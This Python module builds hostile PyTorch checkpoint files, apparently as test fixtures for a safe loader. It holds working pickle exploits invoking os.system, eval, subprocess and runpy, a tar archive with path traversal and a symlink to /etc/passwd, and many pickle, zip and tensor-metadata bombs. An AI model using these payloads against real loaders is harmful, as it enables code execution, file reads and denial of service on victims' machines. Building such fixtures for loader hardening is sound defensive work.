"""Makers of hostile checkpoints: pickles in every protocol, in every container that torch has ever written."""

from __future__ import annotations

import argparse
import io
import os
import pickle
import struct
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import torch

PROTOCOLS = range(pickle.HIGHEST_PROTOCOL + 1)
MAGIC, VERSION = 0x1950A86A20F9469CFC6C, 1001
MACHINE = {"protocol_version": VERSION, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


class Call:
    """Calls a function when it is unpickled."""

    def __init__(self, function: Callable, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple:
        return self.function, self.arguments


class State:
    """Calls a function through a state that is built into an allowed class."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self) -> tuple:
        return argparse.Namespace, (), {"__setstate__": os.mkdir, "x": Call(os.mkdir, str(self.target))}


class Stored:
    """A reference to a storage of ``numel`` floats under ``key``."""

    def __init__(self, numel: Any, key: str = "0", kind: Any = torch.FloatStorage) -> None:
        self.pid = ("storage", kind, key, "cpu", numel)


class Forged:
    """A tensor as torch.save writes it, of any size, stride, offset and storage."""

    def __init__(self, size: tuple, stride: tuple, storage: Any = None, offset: Any = 0) -> None:
        self.arguments = (storage or Stored(4), offset, size, stride, False, OrderedDict())

    def __reduce__(self) -> tuple:
        return torch._utils._rebuild_tensor_v2, self.arguments


class Pickler(pickle.Pickler):
    def persistent_id(self, thing: Any) -> Any:
        return thing.pid if isinstance(thing, Stored) else None


def dumps(content: Any, protocol: int = 2) -> bytes:
    stream = io.BytesIO()
    Pickler(stream, protocol).dump(content)
    return stream.getvalue()


def archive(
    pickled: bytes,
    *,
    compression: int = zipfile.ZIP_STORED,
    storage: bytes = bytes(16),
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """torch's zip container around a pickle."""
    stream = io.BytesIO()
    entries = {
        "archive/data.pkl": pickled,
        "archive/byteorder": b"little",
        "archive/data/0": storage,
        "archive/version": b"3\n",
    } | (extra or {})
    with zipfile.ZipFile(stream, "w", compression) as file:
        for name, data in entries.items():
            file.writestr(name, data)
    return stream.getvalue()


def legacy(pickled: bytes, keys: tuple[str, ...] = ("0",), storage: bytes = bytes(16)) -> bytes:
    """The container before torch 1.6."""
    return b"".join(
        (
            dumps(MAGIC),
            dumps(VERSION),
            dumps(MACHINE),
            pickled,
            dumps(list(keys)),
            struct.pack("<q", len(storage) // 4),
            storage,
        )
    )


def tar(pickled: bytes) -> bytes:
    """The container of torch 0.1, with a link that leads out of it."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as file:
        for name in ("pickle", "storages", "tensors", "../../escaped"):
            entry = tarfile.TarInfo(name)
            entry.size = len(pickled)
            file.addfile(entry, io.BytesIO(pickled))
        link = tarfile.TarInfo("storages/0")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        file.addfile(link)
    return stream.getvalue()


CONTAINERS = {"raw": lambda pickled: pickled, "zip": archive, "legacy": legacy, "tar": tar}


def laughs(levels: int) -> bytes:
    """A dictionary whose key is a tuple that stands for 2**levels objects."""
    doubled = b"".join(b"q" + bytes([k]) + b"h" + bytes([k]) + b"\x86" for k in range(levels))
    return b"\x80\x02}" + b"N" + doubled + b"Ns."


def executing(target: Path) -> Iterator[tuple[str, bytes]]:
    """Files that would make the folder ``target``, or do worse, if anything in them were executed."""
    for protocol in PROTOCOLS:
        for name, container in CONTAINERS.items():
            yield f"reduce {name} {protocol}", container(dumps({"model": Call(os.mkdir, str(target))}, protocol))
        yield f"build {protocol}", archive(dumps(State(target), protocol))
        yield (
            f"nested archive {protocol}",
            archive(
                dumps({"a": Call(torch.load, str(target))}, protocol),
                extra={"archive/inner.pth": archive(dumps(Call(os.mkdir, str(target))))},
            ),
        )
    command = f"mkdir {target}".encode()
    yield "inst", archive(b"(S'" + command + b"'\nios\nsystem\n.")
    yield "obj", archive(b"(cos\nsystem\nS'" + command + b"'\no.")
    text = b"\x8c" + bytes([len(command)]) + command
    yield "stack global", archive(b"\x80\x04\x8c\x02os\x8c\x06system\x93" + text + b"\x85R.")
    yield "extension", archive(b"\x80\x02\x82\x01.")
    for module, name in (
        ("os", "system"),
        ("posix", "system"),
        ("nt", "system"),
        ("builtins", "eval"),
        ("__builtin__", "eval"),
        ("builtins", "getattr"),
        ("subprocess", "check_output"),
        ("torch", "load"),
        ("torch.hub", "load"),
        ("torch.utils.cpp_extension", "load_inline"),
        ("torch._utils", "_rebuild_wrapper_subclass"),
        ("torch._tensor", "_rebuild_from_type_v2"),
        ("torch.storage", "_load_from_bytes"),
        ("numpy", "load"),
        ("runpy", "run_path"),
        ("gtr_core.checkpoints.convert", "convert"),
        ("collections", "OrderedDict.fromkeys"),
    ):
        call = f"c{module}\n{name}\n".encode() + b"X" + struct.pack("<I", len(command)) + command + b"\x85R."
        yield f"global {module}.{name}", archive(b"\x80\x02" + call)
        yield f"legacy global {module}.{name}", legacy(b"\x80\x02" + call)


def exhausting() -> Iterator[tuple[str, bytes]]:
    """Files that would take all memory or all time, or that lie about sizes."""
    zeros, tera = bytes(16 << 20), 2**40
    yield "bomb: pickle", archive(b"\x80\x02]" + b"N" * (8 << 20) + b".", compression=zipfile.ZIP_DEFLATED)
    yield "bomb: storage", archive(dumps({"a": Forged((4,), (1,))}), compression=zipfile.ZIP_DEFLATED, storage=zeros)
    yield (
        "bomb: unused entry",
        archive(dumps({"a": Forged((4,), (1,))}), compression=zipfile.ZIP_BZIP2, extra={"archive/x": zeros}),
    )
    yield "overlapping entries", overlapping(archive(dumps({"a": Forged((4,), (1,))}), storage=bytes(4096)))
    for name, pickled in growing():
        yield name, archive(b"\x80\x02" + pickled + b".")
    yield from ambiguous()
    for name, container in (("zip", archive), ("legacy", legacy)):
        yield f"laughs {name}", container(laughs(60))
        yield f"deep tuple {name}", container(b"\x80\x02}N" + b"\x85" * 200_000 + b"Ns.")
        yield f"deep list {name}", container(b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b".")
        yield f"marks {name}", container(b"\x80\x02" + b"(" * 200_000 + b".")
        yield f"underflow {name}", container(b"\x80\x02\x86\x86R.")
        yield f"no stop {name}", container(b"\x80\x02" + b"N" * 1000)
        yield f"long text {name}", container(b"\x80\x02X\xff\xff\xff\xffabc.")
        yield f"bytearray {name}", container(b"\x80\x02c__builtin__\nbytearray\n\x8a\x06\0\0\0\0\0\x01\x85R.")
        yield f"tensor class {name}", container(b"\x80\x02ctorch\nFloatTensor\n\x8a\x06\0\0\0\0\0\x01\x85R.")
        yield (
            f"untyped storage {name}",
            container(b"\x80\x02ctorch.storage\nUntypedStorage\n\x8a\x06\0\0\0\0\0\x01\x85R."),
        )
        for what, forged in {
            "repeated to terabytes": Forged((tera, 2), (0, 0)),
            "larger than its storage": Forged((1000, 1000), (1000, 1)),
            "terabytes of storage": Forged((4,), (1,), Stored(tera)),
            "negative storage": Forged((4,), (1,), Stored(-4)),
            "no such storage": Forged((4,), (1,), Stored(4, "nowhere")),
            "path as storage": Forged((4,), (1,), Stored(4, "../../../etc/passwd")),
            "negative size": Forged((-4,), (1,)),
            "negative stride": Forged((4,), (-1,)),
            "negative offset": Forged((4,), (1,), offset=-1),
            "far offset": Forged((4,), (1,), offset=tera),
            "overflowing size": Forged((2**62, 2**62), (1, 1)),
            "text as size": Forged(("4",), (1,)),
            "nothing as storage": Forged((4,), (1,), {}),
            "endless rank": Forged((1,) * 5000, (1,) * 5000),
        }.items():
            yield f"{what} {name}", container(dumps({"class_emb.weight": forged}))


def text(words: str) -> bytes:
    data = words.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def growing() -> Iterator[tuple[str, bytes]]:
    """Small pickles that would grow while they are read: through codecs, hashes, copies or their reader."""
    encode = b"c_codecs\nencode\n"
    doubled = encode + text("a" * 1024) + text("latin1") + b"\x86R"
    for _ in range(30):
        doubled = encode + doubled + text("hex_codec") + b"\x86R"
    yield "hex codec", doubled
    letters = "".join(chr(0x4E00 + k * 7919 % 20_000) for k in range(20_000))
    yield "punycode", encode + text(letters) + text("punycode") + b"\x86R"
    prime = 2**61 - 1
    numbers = b"".join(b"\x8a\x0a" + (k * prime).to_bytes(10, "little") + b"N" for k in range(1, 90_000))
    yield "keys of one hash", b"}(" + numbers + b"u"
    tuples = b"".join(b"\x8a\x0a" + (k * prime).to_bytes(10, "little") + b"\x85N" for k in range(1, 90_000))
    yield "tuples of one hash", b"}(" + tuples + b"u"
    books = b"".join(
        b"j%bj%bar%b" % ((struct.pack("<I", k),) * 2 + (struct.pack("<I", k + 1),)) for k in range(150_000)
    )
    yield "a list inside itself", b"]r\0\0\0\0" + books
    for name in ("items", "keys", "__class__"):
        state = b"ccollections\nOrderedDict\n)R" + text("a") + b"Ns}" + text(name) + b"K\x05sb"
        yield f"attribute {name}", state
    yield "remembered without end", b"N" + b"".join(b"r" + struct.pack("<I", k) for k in range(700_000))
    yield "millions of dictionaries", b"(" + b"}" * 3_900_000 + b"l"
    yield "too many steps", b"(" + b"N" * 5_000_000 + b"l"
    path = b"".join(b"}" + text("k" * 4096) for _ in range(47))
    wide = b"}(" + b"".join(text(f"a{k}") + b"]" for k in range(100_000)) + b"u"
    yield "long paths to many", path + wide + b"s" * 47
    yield "texts of megabytes", b"}(" + (text("k" * (1 << 20)) + b"N") * 15 + b"u"
    levels = b"".join(b"}(" + text("a") + b"h%c" % k + text("b") + b"h%cuq%c" % (k, k + 1) for k in range(60))
    yield "a tree of shared tables", b"]q\0" + levels
    pairs = b"](" + b"NN\x86" * 200_000 + b"eq\0"
    yield "copies of a table", pairs + b"(" + b"ccollections\nOrderedDict\nh\0\x85R" * 60_000 + b"l"
    state = b"}(" + b"".join(text(f"a{k}") + b"N" for k in range(100_000)) + b"uq\0"
    yield "one state of many", state + b"(" + b"ca\nb\n)\x81h\0b" * 100_000 + b"l"
    yield (
        "a class in a class",
        b"ctorch._tensor\n_rebuild_from_type_v2\nq\0" + b"h\0N" * 50_000 + b")" + b"\x87R" * 50_000,
    )
    yield "a number of megabytes", b"\x8b" + struct.pack("<i", 8 << 20) + b"\x01" * (8 << 20)
    yield "bytes of megabytes", b"B" + struct.pack("<I", 32 << 20) + bytes(32 << 20)
    tensor = (
        b"ctorch._utils\n_rebuild_tensor_v2\n(("
        + text("storage")
        + b"ctorch\nFloatStorage\n"
        + text("0")
        + text("cpu")
        + b"K\x04tQK\0K\x04\x85K\x01\x85\x89}tRq\5"
    )
    names = b"".join(text(f"a{k}") + b"h\5" for k in range(300_000))
    yield "one tensor under many names", b"}(" + text("x") + tensor + names + b"u"
    models = b"".join(
        text(f"m{k}") + b"}(" + text("class_emb.weight") + b"h\5" + text("diffloss.net.input_proj.weight") + b"h\5u"
        for k in range(20_000)
    )
    yield "models without end", b"}(" + text("x") + tensor + models + b"u"
    lists = b"](h\5h\5e" * 40_000
    model = text("class_emb.weight") + tensor + text("diffloss.net.input_proj.weight") + b"h\5"
    yield "lists of averages", b"}(" + model + text("ema") + b"(" + lists + b"lu"


def ambiguous() -> Iterator[tuple[str, bytes]]:
    """Archives in which two readers may see two files."""
    harmless, other = dumps({"a": Forged((4,), (1,))}), laughs(60)
    yield "two archives", archive(other) + archive(harmless)
    yield "an archive behind bytes", b"PK\x03\x04" + bytes(100) + archive(harmless)
    yield "two pickles", archive(harmless, extra={"other/data.pkl": other})
    for name in ("archive/DATA.PKL", "archive/Data.pkl", "ARCHIVE/data.pkl", "archive/data.PKL"):
        yield f"also {name}", archive(harmless, extra={name: other})
        yield f"only {name}", archive(harmless).replace(b"archive/data.pkl", name.encode())
    yield "another name inside", archive(harmless).replace(b"archive/data.pkl", b"archive/data.pk_", 1)
    yield "a program of TorchScript", archive(harmless, extra={"archive/constants.pkl": other})
    yield "code of TorchScript", archive(harmless, extra={"archive/code/__torch__.py": b"import os"})
    data = archive(harmless)
    end = data.rindex(b"PK\x05\x06")
    yield "a comment", data[:end] + data[end:-2] + struct.pack("<H", len(data)) + data
    for where, name in ((12, "size"), (16, "place")):
        (value,) = struct.unpack_from("<I", data, end + where)
        yield (
            f"directory of another {name}",
            data[: end + where] + struct.pack("<I", value - 1) + data[end + where + 4 :],
        )


def overlapping(data: bytes) -> bytes:
    """The archive with its largest entry listed a hundred times more in the directory."""
    start = data.rindex(b"PK\x05\x06")
    count, size, offset = struct.unpack_from("<HII", data, start + 10)
    first = data.index(b"PK\x01\x02", offset)
    entries = data[first:start].split(b"PK\x01\x02")[1:]
    largest = max(entries, key=lambda entry: struct.unpack_from("<I", entry, 16)[0])
    directory = data[first:start] + (b"PK\x01\x02" + largest) * 100
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count + 100, count + 100, len(directory), offset, 0)
    return data[:first] + directory + end
